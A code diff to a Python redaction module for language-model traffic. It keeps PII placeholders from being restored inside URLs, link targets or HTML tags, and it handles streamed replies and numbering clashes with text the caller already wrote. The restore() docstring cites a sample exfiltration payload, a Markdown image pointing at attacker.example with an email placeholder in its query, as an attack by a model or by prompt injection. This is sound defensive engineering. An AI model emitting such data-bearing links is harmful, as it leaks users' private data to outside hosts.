@@ -61,11 +61,45 @@ class Redaction:
     def placeholders(self) -> tuple[str, ...]:
         return tuple(self._values)
 
-    def restore(self, text: str | None) -> str | None:
-        """``text`` with each placeholder replaced by the value it stands for."""
+    def restore(self, text: str | None, before: str = "") -> str | None:
+        """``text`` with each placeholder in plain text replaced by the value it stands for.
+
+        A placeholder the model put into a URL, a link target or markup stays a placeholder: a
+        model (or a prompt injection) must not be able to have the real value written into an
+        address it chose (``![x](https://attacker.example/?u=[EMAIL_1])``). ``before`` is the
+        text that came before ``text`` (a stream's earlier chunks).
+        """
         if not text or not self._values:
             return text
-        return _PLACEHOLDER_RE.sub(lambda m: self._values.get(m.group(0), m.group(0)), text)
+
+        def swap(m: re.Match[str]) -> str:
+            value = self._values.get(m.group(0))
+            if value is None or in_link((before + text[max(0, m.start() - _CONTEXT) : m.start()])[-_CONTEXT:]):
+                return m.group(0)
+            return value
+
+        return _PLACEHOLDER_RE.sub(swap, text)
+
+
+_CONTEXT = 2048  # how far back a link or tag that is still open is looked for
+_URLISH = frozenset(":/=?&%#@\\")
+
+
+def in_link(before: str) -> bool:
+    """Whether text that continues ``before`` is inside a URL, a Markdown link target or an HTML
+    tag: the run of non-space characters it joins holds URL punctuation, or a ``](`` or ``<`` is
+    still open."""
+    token = before.rsplit(None, 1)[-1] if before and not before[-1].isspace() else ""
+    if token and (not _URLISH.isdisjoint(token) or token.lower().startswith("www.")):
+        return True
+    line = before[before.rfind("\n") + 1 :]
+    if line.rfind("](") > line.rfind(")"):
+        return True
+    tag = max((m.start() for m in _TAG_OPEN.finditer(before)), default=-1)
+    return tag > before.rfind(">")
+
+
+_TAG_OPEN = re.compile(r"<[A-Za-z!/]")
 
 
 def redact_messages(messages: tuple[Message, ...], findings: Iterable[Finding]) -> Redaction:
@@ -77,6 +111,11 @@ def redact_messages(messages: tuple[Message, ...], findings: Iterable[Finding]) 
     values: dict[str, str] = {}
     names: dict[str, str] = {}
     counters: dict[str, int] = {}
+    # placeholder-shaped text the caller already wrote (a template's "[EMAIL_1]") is never one of
+    # ours: numbering skips it, so a reply that repeats it gets it back as written, not a value
+    from ..._text import located_texts
+
+    taken = {m.group(0) for *_, text in located_texts(messages) for m in _PLACEHOLDER_RE.finditer(text)}
 
     def swap(text: str, found: list[Finding]) -> str:
         # overlapping findings (a value split across messages is also found in each piece) merge
@@ -91,13 +130,17 @@ def redact_messages(messages: tuple[Message, ...], findings: Iterable[Finding]) 
         at = 0
         for start, end, detector in merged:
             value = text[start:end]
-            holder = names.get(value)
-            if holder is None:
+            known = names.get(value)
+            if known is None:
                 kind = placeholder_kind(detector)
                 counters[kind] = counters.get(kind, 0) + 1
-                holder = names[value] = placeholder(kind, counters[kind])
-                values[holder] = value
-            out += (text[at:start], holder)
+                known = placeholder(kind, counters[kind])
+                while known in taken:
+                    counters[kind] += 1
+                    known = placeholder(kind, counters[kind])
+                names[value] = known
+                values[known] = value
+            out += (text[at:start], known)
             at = end
         out.append(text[at:])
         return "".join(out)
@@ -141,13 +184,14 @@ class StreamRestorer:
     one cannot be a placeholder and goes out as plain text.
     """
 
-    __slots__ = ("_pending", "_restore")
+    __slots__ = ("_before", "_pending", "_restore")
 
     HOLD = MAX_PLACEHOLDER
 
-    def __init__(self, restore: Callable[[str | None], str | None]) -> None:
+    def __init__(self, restore: Callable[[str | None, str], str | None]) -> None:
         self._restore = restore
         self._pending = ""
+        self._before = ""  # the reply so far (its tail), so a link opened in an earlier chunk counts
 
     def feed(self, text: str) -> str:
         text = self._pending + text
@@ -156,8 +200,13 @@ class StreamRestorer:
             text, self._pending = text[:cut], text[cut:]
         else:
             self._pending = ""
-        return self._restore(text) or ""
+        return self._out(text)
 
     def flush(self) -> str:
         text, self._pending = self._pending, ""
-        return self._restore(text) or ""
+        return self._out(text)
+
+    def _out(self, text: str) -> str:
+        restored = self._restore(text, self._before) or ""
+        self._before = (self._before + text)[-_CONTEXT:]
+        return restored
